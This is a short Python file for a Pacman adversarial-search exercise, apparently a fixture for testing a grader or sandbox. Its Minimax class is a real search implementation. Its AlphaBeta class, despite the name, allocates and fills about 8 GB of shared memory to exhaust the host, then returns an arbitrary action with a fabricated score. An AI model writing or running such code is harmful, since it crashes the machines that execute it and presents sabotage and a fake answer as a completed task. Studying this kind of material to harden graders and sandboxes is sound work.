"""Maps memory that is shared, 16 MB at a time, and writes to it, until there is none.
"""

import mmap

from pacman import Agent, Decision, SearchAgent


class Minimax(SearchAgent):
    """Honest and right."""

    def search(self, state):
        plies = self.depth * state.num_agents
        values = {a: self.value(state.successor(0, a), 1 % state.num_agents, plies - 1) for a in state.legal_actions(0)}
        best = max(values, key=values.get)
        return Decision(best, values[best])

    def value(self, state, agent, plies):
        if plies == 0 or state.is_terminal:
            return self.evaluate(state)
        after = (agent + 1) % state.num_agents
        values = [self.value(state.successor(agent, a), after, plies - 1) for a in state.legal_actions(agent)]
        return max(values) if self.role(state, agent) == "max" else min(values)


class AlphaBeta(SearchAgent):
    def search(self, state):
        hoard = []
        while len(hoard) < 512:
            hoard.append(mmap.mmap(-1, 16_000_000))
            hoard[-1].write(b"x" * 16_000_000)
        return Decision(state.legal_actions(0)[0], 98765.25)  # a guess that is never right
